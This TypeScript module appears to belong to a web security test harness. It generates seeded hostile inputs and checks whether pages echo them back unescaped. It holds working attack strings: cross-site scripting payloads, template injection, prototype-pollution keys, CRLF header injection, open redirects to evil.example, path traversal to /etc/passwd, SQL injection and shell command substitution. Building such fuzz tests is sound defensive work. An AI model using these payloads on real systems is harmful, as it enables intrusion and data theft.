import type { Chance } from "../../../sandbox/bare/seeded";

/** A text that somebody means harm with. */
export interface Payload {
  text: string;
  /** The part of it that names this one input, wherever a page repeats it. */
  marker: string;
}

/** What a page must never hold in these very letters: markup that would be read as markup. */
export const isTelling = ({ text }: Payload): boolean => /[<>"]|&lt;|&#/.test(text);

/** Called by every script that is smuggled in: a browser that opens the page listens for it. */
export const RAN = "rigScriptRan";

const EVIL = "evil.example";

type Family = (marker: string, chance: Chance) => string;

const markup: Family = (m, { pick }) =>
  pick([
    `"><script>${RAN}("${m}")</script>`,
    `</script><script>${RAN}("${m}")</script>`,
    `</title></style></textarea><script>${RAN}("${m}")</script>`,
    `<img src=x onerror=${RAN}("${m}")>`,
    `<svg/onload=${RAN}("${m}")>`,
    `${m}" autofocus onfocus="${RAN}(1)" x="`,
    `${m}' autofocus onfocus='${RAN}(1)' x='`,
    `${m}"/><meta http-equiv="refresh" content="0;url=https://${EVIL}">`,
    `<base href="https://${EVIL}/">${m}`,
    `<form action="https://${EVIL}"><button>${m}</button></form>`,
    `<iframe srcdoc="<script>parent.${RAN}(1)</script>">${m}`,
    `<math><mtext><mglyph><style></math><img src onerror=${RAN}("${m}")>`,
    `<!--${m}--><link rel=stylesheet href=//${EVIL}>`,
    `&lt;img src=x onerror=${RAN}(&quot;${m}&quot;)&gt;`,
    `&#60;script&#62;${RAN}("${m}")&#60;/script&#62;`,
    `javascript:${RAN}("${m}")//`,
    `data:text/html,<script>${RAN}("${m}")</script>`,
    `{{constructor.constructor("${RAN}(1)")()}}${m}`,
    `\${${RAN}(1)}${m}\`#{7*7}<%= 7*7 %>`,
    `\u2028${RAN}("${m}")\u2029</script>`,
  ]);

const names: Family = (m, { pick }) =>
  pick([
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "then",
    "__defineGetter__",
    `__proto__[${m}]`,
    `constructor.prototype.${m}`,
    `__proto__.${m}`,
    "undefined",
    "null",
    "NaN",
    "-1",
    "1e309",
    "0x1F",
    "9007199254740993",
    "",
    " ",
  ]);

const lines: Family = (m, { pick }) =>
  pick([
    `${m}\r\nSet-Cookie: evil=1\r\nX-Evil: 1\r\n\r\n<script>${RAN}(1)</script>`,
    `${m}\nLocation: https://${EVIL}`,
    `${m}\rX-Evil: 1`,
    `${m}%0d%0aX-Evil:%201`,
    `${m}\u560d\u560aX-Evil: 1`,
    `${m}\u0085X-Evil: 1`,
  ]);

const lengths: Family = (m, { pick }) => {
  const unit = pick(["a", "%", "[", "a.", "é", "../", '"', "<", "&a=1", "𝒳", "\u0301"]);
  return m + unit.repeat(pick([64, 255, 500, 1_000, 3_000, 8_000]));
};

const letters: Family = (m, { pick }) =>
  pick([
    `\u202e${m}\u202d\u2066`,
    `\ufeff${m}\u200b\u200d`,
    `${m}\u0000`,
    `\ud800${m}\udfff`,
    `＜script＞${RAN}（${m}）`,
    `İıſK${m}`,
    `${"e\u0301\u0302\u0303".repeat(60)}${m}`,
    `👩‍👩‍👧‍👦${m}🏴󠁧󠁢󠁥󠁮󠁧󠁿`,
    `${m}\u0007\u001b[31m`,
    `شراء ${m} קנייה`,
    `${m}@${m}.example`,
    `"${m}"@example.com`,
    `${m}+<b>@example.com`,
  ]);

const ways: Family = (m, { pick }) =>
  pick([
    `https://${EVIL}/${m}`,
    `//${EVIL}/${m}`,
    `/\\${EVIL}/${m}`,
    `\\\\${EVIL}\\${m}`,
    `\t//${EVIL}/${m}`,
    `https:${EVIL}/${m}`,
    `/%09/${EVIL}/${m}`,
    `//${EVIL}%2f..`,
    `@${EVIL}/${m}`,
    `.${EVIL}`,
    `../../../../etc/passwd%00${m}`,
    `..%2f..%2f${m}`,
    `%2e%2e/${m}`,
    `..;/${m}`,
    `%c0%ae%c0%ae/${m}`,
    `/./${m}//`,
    `?${m}#${m}`,
    `' or '1'='1' -- ${m}`,
    `$(${m})\`${m}\`|${m}`,
  ]);

const FAMILIES: readonly Family[] = [markup, markup, names, lines, lengths, letters, ways];

/** The one of a number: the same for the same chance. */
export function payloadOf(number: number, chance: Chance): Payload {
  const marker = `rig${number}zq`;
  return { text: chance.pick(FAMILIES)(marker, chance), marker };
}

/** What may stand in an address as it is; everything else as bytes. */
export const encoded = (text: string): string =>
  [...Buffer.from(text)]
    .map((byte) => (/[\w.~-]/.test(String.fromCharCode(byte)) ? String.fromCharCode(byte) : percent(byte)))
    .join("");

/** As careless partners do it: only what no address can hold is written as bytes. */
export const halfEncoded = (text: string): string =>
  [...Buffer.from(text)]
    .map((byte) => (byte > 0x20 && byte < 0x7f ? String.fromCharCode(byte) : percent(byte)))
    .join("");

const percent = (byte: number): string => `%${byte.toString(16).padStart(2, "0")}`;

/** As a header can hold it: its bytes, without control characters. */
export const inHeader = (text: string): string =>
  [...Buffer.from(text)]
    .filter((byte) => byte >= 0x20 && byte !== 0x7f)
    .map((byte) => String.fromCharCode(byte))
    .join("");
